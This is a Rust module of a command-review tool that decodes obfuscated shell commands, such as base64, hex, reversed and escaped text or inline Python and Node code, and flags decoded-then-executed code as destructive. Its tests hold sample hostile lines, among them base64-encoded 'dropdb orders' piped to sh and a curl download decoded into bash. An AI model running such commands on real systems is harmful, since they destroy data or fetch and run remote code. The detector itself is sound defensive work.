//! Commands written so that their words do not show: escapes the shell
//! turns into letters (`$'\x64ropdb'`), text decoded on the line and run
//! (`echo ZHJvcGRi... | base64 -d | sh`), a command's own printed words
//! (`eval "$(echo dropdb orders)"`) and code handed to another language
//! on the command line (`python3 -c "os.system('dropdb orders')"`).
//!
//! What is written on the line is decoded here as the shell or the tool
//! would decode it, so that the command reader sees the command that runs.
//! What a line decodes from elsewhere (a variable set outside the change,
//! a file, a download) and then runs cannot be read: [`runs_hidden_code`]
//! says so, and the caller counts it as destroying (fail closed: hiding a
//! command is how a destructive one would get past a reviewer).

use base64::Engine as _;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

use super::programs::{Language, ProgramReader, interpreter};

/// Longest text decoded or read as inline code (bytes): a line is read in
/// pieces of 4 KiB, and the reader's other bounds are of that order.
const MAX_DECODED: usize = 16 * 1024;

/// Shells and interpreters that run the text they are fed.
const RUNNERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "ash",
    "fish",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "pwsh",
    "powershell",
    "iex",
    "invoke-expression",
];

/// Most substitutions a line is looked through for a decoder, and the
/// bytes around each looked at: bounds that keep the reading linear in the
/// line (a decoder's command is short).
const MAX_SUBSTITUTIONS: usize = 256;
const WINDOW: usize = 512;

/// The type a line that runs hidden code counts as destroying.
pub(super) const HIDDEN_COMMAND: &str = "hidden_command";

/// `line` with each ANSI-C quoted text (`$'\x64ropdb'`, `$'\144rop\x64b'`,
/// `$'drop\u0064b'`) written as the text the shell makes of it, in single
/// quotes (which later readings take off a plain word), or in double quotes
/// when it holds a single quote.
pub(super) fn ansi_c_quotes(line: &str) -> String {
    if !line.contains("$'") {
        return line.to_owned();
    }
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(at) = rest.find("$'") {
        out.push_str(rest.get(..at).unwrap_or_default());
        let body = rest.get(at + 2..).unwrap_or_default();
        let Some(end) = closing_quote(body) else {
            out.push_str(rest.get(at..).unwrap_or_default());
            return out;
        };
        let text = escaped(body.get(..end).unwrap_or_default(), Escapes::AnsiC);
        out.push_str(&quoted(&text));
        rest = body.get(end + 1..).unwrap_or_default();
    }
    out.push_str(rest);
    out
}

/// Where the `'` that closes an ANSI-C quoted text is (`\'` inside it is
/// a quote of the text).
fn closing_quote(body: &str) -> Option<usize> {
    let mut escaped = false;
    for (i, c) in body.char_indices() {
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            '\'' => return Some(i),
            _ => {}
        }
    }
    None
}

/// `text` in quotes the command reader reads as one argument: single
/// quotes, or double quotes when it holds a single quote and nothing a
/// double-quoted text would expand.
fn quoted(text: &str) -> String {
    if !text.contains('\'') {
        format!("'{text}'")
    } else if !text.contains(['"', '$', '`', '\\']) {
        format!("\"{text}\"")
    } else {
        // (Both quotes in it: written bare, its words read as they are.)
        text.to_owned()
    }
}

/// Which escapes a text's backslashes make.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Escapes {
    /// Bash's `$'...'`: `\xHH`, `\NNN` (octal), `\uHHHH`, `\UHHHHHHHH`,
    /// `\cX` and the letters.
    AnsiC,
    /// `printf`'s format and `echo -e`: `\xHH`, `\NNN` and `\0NNN`, the
    /// letters.
    Printf,
}

/// `text` with its escapes decoded. A control character comes out as a
/// blank (the reader splits words at blanks), an escape it does not know
/// as written.
fn escaped(text: &str, escapes: Escapes) -> String {
    let chars: Vec<char> = text.chars().collect();
    let mut out = String::with_capacity(text.len());
    let mut i = 0;
    let digits = |from: usize, radix: u32, most: usize| -> (u32, usize) {
        let mut value = 0u32;
        let mut n = 0;
        while n < most {
            match chars.get(from + n).and_then(|c| c.to_digit(radix)) {
                Some(d) => {
                    value = value.saturating_mul(radix).saturating_add(d);
                    n += 1;
                }
                None => break,
            }
        }
        (value, n)
    };
    let push = |out: &mut String, code: u32| match char::from_u32(code) {
        Some(c) if c.is_control() => out.push(' '),
        Some(c) => out.push(c),
        None => out.push(' '),
    };
    while let Some(&c) = chars.get(i) {
        if c != '\\' {
            out.push(c);
            i += 1;
            continue;
        }
        let Some(&next) = chars.get(i + 1) else {
            out.push(c);
            break;
        };
        i += 2;
        match next {
            'x' => {
                let (value, n) = digits(i, 16, 2);
                if n == 0 {
                    out.push_str("\\x");
                } else {
                    push(&mut out, value);
                    i += n;
                }
            }
            'u' | 'U' if escapes == Escapes::AnsiC => {
                let (value, n) = digits(i, 16, if next == 'u' { 4 } else { 8 });
                if n == 0 {
                    out.push('\\');
                    out.push(next);
                } else {
                    push(&mut out, value);
                    i += n;
                }
            }
            '0'..='7' => {
                // (`printf` and `echo -e` also take `\0NNN`.)
                let start = if escapes == Escapes::Printf && next == '0' { i } else { i - 1 };
                let (value, n) = digits(start, 8, 3);
                push(&mut out, value);
                i = start + n.max(usize::from(start == i - 1));
            }
            'c' if escapes == Escapes::AnsiC => {
                // (A control character.)
                out.push(' ');
                i += usize::from(chars.get(i).is_some());
            }
            'n' | 't' | 'r' | 'v' | 'f' | 'a' | 'b' | 'e' | 'E' => out.push(' '),
            '\\' | '\'' | '"' | '?' => out.push(next),
            other => {
                out.push('\\');
                out.push(other);
            }
        }
    }
    out
}

/// `text` as `printf` prints it (and `echo -e`): its escapes decoded
/// (`\x64ropdb` is `dropdb`), a line break or other control character as a
/// blank.
pub(super) fn printf_escapes(text: &str) -> String {
    escaped(text, Escapes::Printf)
}

/// `line` with the escapes that spell a letter, a digit, a blank or a
/// printable ASCII sign in its double-quoted text (`\xHH`, `\uHHHH`,
/// `\UHHHHHHHH`, `\u{H...}`) written as that character, as YAML, JSON,
/// TOML, Python, JavaScript and Go read them (`"kubectl delete
/// n\x61mespace orders"`, `"FLUSH\u0041LL"`, `"echo \u0024(dropdb
/// orders)"`, `"echo ok\u003b dropdb orders"`: red teams' misses). An
/// escape of a quote, a backslash or a control character stays as
/// written, so the text's quoting is unchanged.
pub(super) fn string_escapes(line: &str) -> std::borrow::Cow<'_, str> {
    // (Linear in the line, whatever its length: a long line hides nothing.)
    if !line.contains("\\x") && !line.contains("\\u") && !line.contains("\\U") {
        return std::borrow::Cow::Borrowed(line);
    }
    let chars: Vec<char> = line.chars().collect();
    let mut out = String::with_capacity(line.len());
    let mut quoted = false;
    let mut i = 0;
    while let Some(&c) = chars.get(i) {
        if c == '"' {
            quoted = !quoted;
        }
        if c == '\\' && quoted {
            let next = chars.get(i + 1).copied();
            let (digits, from) = match next {
                Some('x') => (2, i + 2),
                Some('u') if chars.get(i + 2) == Some(&'{') => (6, i + 3),
                Some('u') => (4, i + 2),
                Some('U') => (8, i + 2),
                _ => {
                    // (An escaped character, `\"` or `\\`, is passed whole.)
                    out.push(c);
                    out.extend(next);
                    i += 2;
                    continue;
                }
            };
            let hex: String = chars
                .get(from..)
                .unwrap_or_default()
                .iter()
                .take(digits)
                .take_while(|d| d.is_ascii_hexdigit())
                .collect();
            let braced = next == Some('u') && chars.get(i + 2) == Some(&'{');
            let closes = !braced || chars.get(from + hex.len()) == Some(&'}');
            let exact = braced || hex.len() == digits;
            let decoded = u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32);
            if let Some(d) = decoded.filter(|d| {
                exact
                    && closes
                    && !hex.is_empty()
                    && (d.is_alphanumeric() || *d == ' ' || (d.is_ascii_graphic() && !matches!(d, '"' | '\'' | '\\')))
            }) {
                out.push(d);
                i = from + hex.len() + usize::from(braced);
                continue;
            }
        }
        out.push(c);
        i += 1;
    }
    std::borrow::Cow::Owned(out)
}

/// The decoders that turn a literal into the text they print, by how the
/// line names them.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Decoder {
    Base64,
    Hex,
    Reverse,
    /// A decoder whose input this reader does not decode (`base32`,
    /// `openssl enc -d`, `gpg -d`, `gunzip`, `tr`, ...).
    Opaque,
}

/// The decoder `words` runs, if they are one (`base64 -d`, `base64
/// --decode`, `openssl base64 -d`, `xxd -r -p`, `rev`, ...).
fn decoder(words: &[&str]) -> Option<Decoder> {
    let name = |w: &str| w.rsplit('/').next().unwrap_or(w).to_ascii_lowercase();
    let first = words.iter().position(|w| !matches!(*w, "sudo" | "command" | "exec" | "env"))?;
    let tool = name(words.get(first)?);
    let args = words.get(first + 1..).unwrap_or_default();
    let has = |flags: &[&str]| args.iter().any(|a| flags.contains(a));
    // (Short flags run together, `-di`, `-rp`.)
    let short = |c: char| args.iter().any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains(c));
    match tool.as_str() {
        "base64" if short('d') || short('D') || has(&["--decode"]) => Some(Decoder::Base64),
        "openssl" if args.first().is_some_and(|a| matches!(*a, "base64" | "enc")) && short('d') => {
            let base64 = args.iter().any(|a| matches!(*a, "base64" | "-base64" | "-a" | "-A"));
            let cipher =
                args.iter().any(|a| a.starts_with("-aes") || a.starts_with("-des") || *a == "-k" || *a == "-pass");
            Some(if base64 && !cipher { Decoder::Base64 } else { Decoder::Opaque })
        }
        "xxd" if short('r') => Some(if short('p') { Decoder::Hex } else { Decoder::Opaque }),
        "rev" => Some(Decoder::Reverse),
        "base32" | "basenc" if short('d') || has(&["--decode"]) => Some(Decoder::Opaque),
        "uudecode" | "gunzip" | "zcat" | "bzcat" | "xzcat" | "zstdcat" | "unxz" | "bunzip2" => Some(Decoder::Opaque),
        "gzip" | "bzip2" | "xz" | "zstd" if short('d') || has(&["--decompress", "--stdout"]) => Some(Decoder::Opaque),
        "gpg" | "gpg2" | "age" | "sops" if short('d') || has(&["--decrypt"]) => Some(Decoder::Opaque),
        "tr" => Some(Decoder::Opaque),
        _ => None,
    }
}

/// What `decoder` prints for `text`, if it decodes to readable text.
fn decode(decoder: Decoder, text: &str) -> Option<String> {
    let bytes = match decoder {
        Decoder::Base64 => {
            let config = GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent);
            let engine = GeneralPurpose::new(&base64::alphabet::STANDARD, config);
            let compact: String = text.chars().filter(|c| !c.is_whitespace()).collect();
            engine.decode(compact).ok()?
        }
        Decoder::Hex => {
            let digits: Vec<u32> =
                text.chars().filter(|c| !c.is_whitespace()).map(|c| c.to_digit(16)).collect::<Option<_>>()?;
            digits.chunks(2).map(|pair| pair.iter().fold(0u32, |v, d| v * 16 + d) as u8).collect()
        }
        Decoder::Reverse => return Some(text.chars().rev().collect()),
        Decoder::Opaque => return None,
    };
    let text = String::from_utf8(bytes).ok()?;
    // (A trailing line break, as `echo` writes one, is no part of the
    // command; other control characters make it unreadable text.)
    let text = text.trim_end_matches(['\n', '\r']);
    let readable = text.chars().all(|c| !c.is_control() || matches!(c, '\n' | '\t'));
    // (A line break ends a command; a tab is a blank, as the shell reads
    // it: it made `dropdb<TAB>orders` two commands.)
    readable.then(|| text.replace('\t', " ").replace('\n', "; ").trim().to_owned())
}

/// The text `echo`/`printf` words print, if they print a literal: without
/// its quotes, with `printf`'s and `echo -e`'s escapes decoded. None for
/// a text that holds an expansion (`$X`, `$(...)`) or a `printf` format
/// with a directive (`%s`).
fn printed_literal(words: &str) -> Option<String> {
    let words = words.trim();
    let (tool, rest) = words.split_once(char::is_whitespace).unwrap_or((words, ""));
    let mut rest = rest.trim_start();
    let mut escapes = tool == "printf";
    if tool == "echo" {
        while let Some((flag, after)) = rest.split_once(char::is_whitespace) {
            if !(flag.starts_with('-') && flag.len() > 1 && flag.chars().skip(1).all(|c| matches!(c, 'n' | 'e' | 'E')))
            {
                break;
            }
            escapes |= flag.contains('e');
            rest = after.trim_start();
        }
    } else if tool != "printf" {
        return None;
    }
    let rest = rest.trim();
    let text = match rest.chars().next() {
        Some(q @ ('\'' | '"')) => rest.strip_prefix(q)?.strip_suffix(q)?,
        _ => rest,
    };
    if text.is_empty()
        || text.contains(['$', '`'])
        || (tool == "printf" && text.contains('%'))
        || text.len() > MAX_DECODED
    {
        return None;
    }
    let text = if escapes { escaped(text, Escapes::Printf) } else { text.to_owned() };
    Some(text.trim().to_owned())
}

/// `line` with each literal it decodes written decoded: `echo TEXT |
/// DECODER` (or `printf`, or `DECODER <<< TEXT`), where the decoder is
/// `base64 -d` (`--decode`, `-D`, `openssl base64 -d`), `xxd -r -p` or
/// `rev`, becomes `echo 'DECODED'`, which the reader then follows into the
/// shell it feeds (`| sh`, `eval "$(...)"`).
pub(super) fn decoded_literals(line: &str) -> String {
    if line.len() > MAX_DECODED || !line.contains('|') && !line.contains("<<<") {
        return line.to_owned();
    }
    let mut out = line.to_owned();
    // (A few decodings a line, no more: each may reveal another.)
    for _ in 0..4 {
        match decode_one(&out) {
            Some(next) => out = next,
            None => break,
        }
    }
    out
}

/// [`decoded_literals`]' one step: the first decoding found, written out.
fn decode_one(line: &str) -> Option<String> {
    // Pieces between the separators a pipeline's commands end at.
    let mut starts = vec![0];
    starts.extend(line.match_indices(['|', '(', ')', ';', '&', '`']).map(|(i, _)| i + 1));
    starts.push(line.len() + 1);
    for pair in starts.windows(3) {
        let [a, b, c] = pair else { continue };
        let feeder = line.get(*a..b.saturating_sub(1))?;
        let command = line.get(*b..c.saturating_sub(1).min(line.len()))?;
        // `echo TEXT | DECODER`.
        if line.get(b.saturating_sub(1)..*b) == Some("|")
            && let Some(d) = decoder(&command.split_whitespace().collect::<Vec<_>>())
            && let Some(text) = printed_literal(feeder)
            && let Some(decoded) = decode(d, &text)
        {
            let lead = feeder.len() - feeder.trim_start().len();
            // (The blanks after the decoder stay: `... | sh`.)
            let trail = command.len() - command.trim_end().len();
            let end = c.saturating_sub(1).min(line.len()).saturating_sub(trail);
            return Some(format!(
                "{}{}echo {}{}",
                line.get(..*a)?,
                feeder.get(..lead)?,
                quoted(&decoded),
                line.get(end..)?
            ));
        }
    }
    // `DECODER <<< TEXT`.
    let at = line.find("<<<")?;
    let before = line.get(..at)?;
    let from = before.rfind(['|', '(', ';', '&', '`']).map_or(0, |i| i + 1);
    let words: Vec<&str> = before.get(from..)?.split_whitespace().collect();
    let d = decoder(&words)?;
    let after = line.get(at + 3..)?;
    let end = after.find(['|', ')', ';', '&', '`']).unwrap_or(after.len());
    let text = after.get(..end)?.trim();
    let text = text.strip_prefix(['\'', '"']).and_then(|t| t.strip_suffix(['\'', '"'])).unwrap_or(text);
    if text.contains(['$', '`']) {
        return None;
    }
    let decoded = decode(d, text)?;
    let kept = end - (after.get(..end)?.len() - after.get(..end)?.trim_end().len());
    Some(format!("{}echo {}{}", line.get(..from)?, quoted(&decoded), after.get(kept..)?))
}

/// `line` with each command substitution that only prints a literal
/// (`$(echo dropdb orders)`, `` `printf 'drop\x64b'` ``) written as the
/// text it prints, and a shell given such a substitution as its script
/// (`bash <(echo TEXT)`, `source <(echo TEXT)`) written as `sh -c 'TEXT'`.
pub(super) fn printed_substitutions(line: &str) -> String {
    if line.len() > MAX_DECODED || !(line.contains("$(") || line.contains("<(") || line.contains('`')) {
        return line.to_owned();
    }
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    loop {
        // (One scan to the next opening: three searches of the whole rest
        // at every step made a line of many backticks quadratic.)
        let next = rest.char_indices().find(|&(i, c)| {
            c == '`' || (matches!(c, '$' | '<') && rest.get(i + 1..).is_some_and(|r| r.starts_with('(')))
        });
        let Some((at, _)) = next else { break };
        let tick = rest.get(at..).is_some_and(|r| r.starts_with('`'));
        let open = if tick { 1 } else { 2 };
        let body = rest.get(at + open..).unwrap_or_default();
        let close = if tick { body.find('`') } else { body.find(')') };
        let Some(end) = close else { break };
        let inner = body.get(..end).unwrap_or_default();
        let process = rest.get(at..).is_some_and(|r| r.starts_with("<("));
        match printed_literal(inner).filter(|_| !inner.contains(['(', '|', ';', '&'])) {
            Some(text) if process => {
                // (The shell, or `source`, before it runs the text.)
                let before = rest.get(..at).unwrap_or_default().trim_end();
                let runner = before.rsplit(char::is_whitespace).next().unwrap_or_default();
                let runner = runner.rsplit('/').next().unwrap_or(runner);
                if RUNNERS.contains(&runner) || matches!(runner, "source" | ".") {
                    let kept = before.len() - runner.len();
                    out.push_str(before.get(..kept).unwrap_or_default());
                    out.push_str("sh -c ");
                    out.push_str(&quoted(&text));
                } else {
                    out.push_str(rest.get(..at + open + end + 1).unwrap_or_default());
                }
            }
            Some(text) => {
                out.push_str(rest.get(..at).unwrap_or_default());
                out.push_str(&text);
            }
            None => out.push_str(rest.get(..at + open + end + 1).unwrap_or_default()),
        }
        rest = body.get(end + 1..).unwrap_or_default();
    }
    out.push_str(rest);
    out
}

/// Whether `line` runs text it decodes from what it does not show: a
/// decoder (`base64 -d`, `xxd -r`, `openssl enc -d`, `gpg -d`, `gunzip`,
/// `tr`, ...) whose output a shell or interpreter runs (`| sh`, `| python3
/// -`, `eval "$(...)"`, `sh -c "$(...)"`, `bash <(...)`, `$(...)` as the
/// command itself). Read after [`decoded_literals`], so a literal it could
/// decode is no longer there.
pub(super) fn runs_hidden_code(line: &str) -> bool {
    if line.len() > 4 * MAX_DECODED {
        return false;
    }
    // A decoder in a pipeline that goes on into a runner.
    let pieces: Vec<&str> = line.split('|').collect();
    let mut decoded = false;
    for piece in &pieces {
        // (The piece's last command: `a && echo $X` feeds `echo $X`.)
        let command = piece.rsplit([';', '&', '(', '`']).next().unwrap_or(piece);
        let words: Vec<&str> = command.split_whitespace().collect();
        if decoded && words.first().is_some_and(|w| runner(w)) {
            return true;
        }
        if decoder(&words).is_some() {
            decoded = true;
        } else if !words
            .first()
            .is_some_and(|w| decoder(&[w]).is_some() || matches!(*w, "cat" | "tee" | "head" | "tail"))
        {
            decoded = false;
        }
    }
    // A substitution holding a decoder, whose output runs. (Each looked
    // at within a window of its own, so that a line of many brackets is
    // read in linear time.)
    for (at, _) in line.match_indices(['(', '`']).take(MAX_SUBSTITUTIONS) {
        let mut from = at.saturating_sub(WINDOW);
        while !line.is_char_boundary(from) {
            from += 1;
        }
        let before = line.get(from..at).unwrap_or_default();
        let inside = line.get(at + 1..).unwrap_or_default();
        let mut to = WINDOW.min(inside.len());
        while !inside.is_char_boundary(to) {
            to -= 1;
        }
        let inside = inside.get(..to).unwrap_or_default();
        let inside = inside.split([')', '`']).next().unwrap_or(inside);
        if !inside.split('|').any(|p| decoder(&p.split_whitespace().collect::<Vec<_>>()).is_some()) {
            continue;
        }
        let before = before.trim_end_matches(['$', '<']).trim_end().trim_end_matches(['"', '\'']).trim_end();
        let last = before.rsplit(char::is_whitespace).next().unwrap_or_default();
        let at_start = before.is_empty() || before.ends_with([';', '&', '|', '(']);
        if at_start || matches!(last, "eval" | "-c" | "-ec" | "-xc" | "source" | ".") || runner(last) {
            return true;
        }
    }
    false
}

/// Whether `word` runs the text it is fed.
fn runner(word: &str) -> bool {
    let name = word.rsplit('/').next().unwrap_or(word).to_ascii_lowercase();
    RUNNERS.contains(&name.as_str())
}

/// The command lines code handed to another language on a command line
/// runs: `python3 -c "CODE"`, `node -e`, `ruby -e`, `perl -e`, `php -r`,
/// read as a script of that language is (`os.system("dropdb orders")`).
pub(super) fn inline_code_commands(line: &str) -> Vec<String> {
    if line.len() > MAX_DECODED {
        return Vec::new();
    }
    let mut out = Vec::new();
    let words: Vec<&str> = line.split_whitespace().collect();
    // (A few programs a line at most: each is read to its end.)
    let mut programs = 0;
    for pair in words.windows(2) {
        let [tool, flag] = pair else { continue };
        let name = tool.rsplit('/').next().unwrap_or(tool).trim_start_matches(['(', '"', '\'']);
        // (Bun and Deno take `-e` for JavaScript too.)
        let language = if matches!(name, "bun" | "deno") { Some(Language::JavaScript) } else { interpreter(name) };
        let language = match (language, *flag) {
            (Some(Language::Python), "-c") => Language::Python,
            (Some(Language::JavaScript), "-e" | "--eval" | "-p") => Language::JavaScript,
            (Some(Language::Ruby), "-e") => Language::Ruby,
            (Some(Language::Perl), "-e" | "-E") => Language::Perl,
            _ => continue,
        };
        // The code: the text after the flag (a word of `line`, so its
        // place is its distance from the line's start), to its closing quote.
        let start = (flag.as_ptr() as usize).wrapping_sub(line.as_ptr() as usize) + flag.len();
        let after = line.get(start..).unwrap_or_default().trim_start();
        let Some(code) = quoted_text(after) else { continue };
        programs += 1;
        if programs > 8 {
            break;
        }
        let mut reader = ProgramReader::new(language);
        for piece in code.split('\n') {
            out.extend(reader.feed(piece));
        }
        out.extend(reader.finish());
        if out.len() > 64 {
            break;
        }
    }
    out
}

/// The text of the quoted argument `text` starts with (its escapes of
/// the quote taken off, in double quotes), or None.
fn quoted_text(text: &str) -> Option<String> {
    let quote = text.chars().next().filter(|c| matches!(c, '"' | '\''))?;
    let mut out = String::new();
    let mut chars = text.chars().skip(1);
    while let Some(c) = chars.next() {
        match c {
            '\\' if quote == '"' => match chars.next() {
                Some(n @ ('"' | '\\' | '$' | '`')) => out.push(n),
                Some(n) => {
                    out.push('\\');
                    out.push(n);
                }
                None => break,
            },
            c if c == quote => return Some(out),
            c => out.push(c),
        }
    }
    // (Unclosed: to the end of the line, as the reader reads a line.)
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ansi_c_quotes_are_decoded() {
        assert_eq!(ansi_c_quotes(r"$'\x64ropdb' orders"), "'dropdb' orders");
        assert_eq!(ansi_c_quotes(r"$'\144rop\x64b' orders"), "'dropdb' orders");
        assert_eq!(ansi_c_quotes(r"$'drop\u0064b orders'"), "'dropdb orders'");
        assert_eq!(ansi_c_quotes(r"echo $'it\'s'"), "echo \"it's\"");
        // (Unclosed, or none: as written.)
        assert_eq!(ansi_c_quotes(r"$'\x64rop"), r"$'\x64rop");
        assert_eq!(ansi_c_quotes("echo '$x'"), "echo '$x'");
    }

    #[test]
    fn string_escapes_spell_letters_in_double_quotes() {
        assert_eq!(
            string_escapes(r#"run: "kubectl delete n\x61mespace orders""#),
            r#"run: "kubectl delete namespace orders""#
        );
        assert_eq!(string_escapes(r#"["redis-cli", "FLUSH\u0041LL"]"#), r#"["redis-cli", "FLUSHALL"]"#);
        assert_eq!(string_escapes(r#""drop\u{64}b""#), r#""dropdb""#);
        // A quote, a backslash or a control character stays escaped; so
        // does text outside double quotes, and a short escape.
        assert_eq!(string_escapes(r#""a\u0022b \x5c \x0a""#), r#""a\u0022b \x5c \x0a""#);
        assert_eq!(string_escapes(r"echo \x61"), r"echo \x61");
        assert_eq!(string_escapes(r#""\x6""#), r#""\x6""#);
        assert_eq!(string_escapes(r#""\"\x61\"""#), r#""\"a\"""#);
    }

    #[test]
    fn literals_decoded_where_the_line_decodes_them() {
        // "dropdb orders".
        assert_eq!(decoded_literals("echo ZHJvcGRiIG9yZGVycw== | base64 -d | sh"), "echo 'dropdb orders' | sh");
        assert_eq!(decoded_literals("echo ZHJvcGRiIG9yZGVycw | base64 --decode | bash"), "echo 'dropdb orders' | bash");
        assert_eq!(decoded_literals("base64 -d <<< ZHJvcGRiIG9yZGVycw== | sh"), "echo 'dropdb orders' | sh");
        assert_eq!(
            decoded_literals(r#"eval "$(echo ZHJvcGRiIG9yZGVycw== | base64 -d)""#),
            r#"eval "$(echo 'dropdb orders')""#
        );
        assert_eq!(decoded_literals("echo 64726f70646220 | xxd -r -p | sh"), "echo 'dropdb' | sh");
        assert_eq!(decoded_literals("echo 'sredro bdpord' | rev | sh"), "echo 'dropdb orders' | sh");
        // A tab is a blank, a line break ends a command.
        assert_eq!(decoded_literals("echo ZHJvcGRiCW9yZGVycw== | base64 -d | sh"), "echo 'dropdb orders' | sh");
        assert_eq!(
            decoded_literals("echo Y2QgLwpkcm9wZGIgb3JkZXJzCg== | base64 -d | sh"),
            "echo 'cd /; dropdb orders' | sh"
        );
        // Not decodable, or not a literal: as written.
        assert_eq!(decoded_literals("echo $X | base64 -d | sh"), "echo $X | base64 -d | sh");
        assert_eq!(decoded_literals("echo '!!' | base64 -d"), "echo '!!' | base64 -d");
        assert_eq!(decoded_literals("echo hello | grep h"), "echo hello | grep h");
    }

    #[test]
    fn printed_substitutions_are_their_text() {
        assert_eq!(printed_substitutions(r#"eval "$(echo 'dropdb orders')""#), r#"eval "dropdb orders""#);
        assert_eq!(printed_substitutions("$(echo dropdb) orders"), "dropdb orders");
        assert_eq!(printed_substitutions(r"`printf '\x64ropdb'` orders"), "dropdb orders");
        assert_eq!(printed_substitutions("bash <(echo 'dropdb orders')"), "sh -c 'dropdb orders'");
        assert_eq!(printed_substitutions("diff <(echo a) b"), "diff <(echo a) b");
        assert_eq!(printed_substitutions("X=$(date +%s)"), "X=$(date +%s)");
        assert_eq!(printed_substitutions("$(echo $X) orders"), "$(echo $X) orders");
    }

    #[test]
    fn decoded_code_from_elsewhere_is_hidden() {
        for hidden in [
            "echo \"$PAYLOAD\" | base64 -d | sh",
            "curl -s https://x.example/p | base64 --decode | bash",
            "base64 -d payload.b64 | bash -s",
            "eval \"$(echo $P | base64 -d)\"",
            "sh -c \"$(base64 -d < run.b64)\"",
            "bash <(gpg -d run.sh.gpg)",
            "$(echo $P | base64 -d)",
            "cat run.gz | gunzip | sh",
            "echo $X | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
            "echo $P | base64 -d | python3 -",
        ] {
            assert!(runs_hidden_code(hidden), "{hidden}");
        }
        for shown in [
            "echo \"$KUBECONFIG_B64\" | base64 -d > ~/.kube/config",
            "base64 -d secret.b64 | kubectl apply -f -",
            "curl -fsSL https://get.example.sh | sh",
            "echo hello | base64",
            "tar xzf x.tgz",
            "cat VERSION | tr -d '\\n'",
            "X=$(echo $P | base64 -d)",
            "gunzip dump.sql.gz",
        ] {
            assert!(!runs_hidden_code(shown), "{shown}");
        }
    }

    #[test]
    fn inline_code_is_read_as_its_language() {
        assert_eq!(inline_code_commands(r#"python3 -c "import os; os.system('dropdb orders')""#), ["dropdb orders"]);
        assert_eq!(
            inline_code_commands(r#"node -e "require('child_process').execSync('dropdb orders')""#),
            ["dropdb orders"]
        );
        assert!(inline_code_commands(r#"python3 -c "print('hello')""#).is_empty());
        assert!(inline_code_commands("python3 manage.py migrate").is_empty());
    }
}
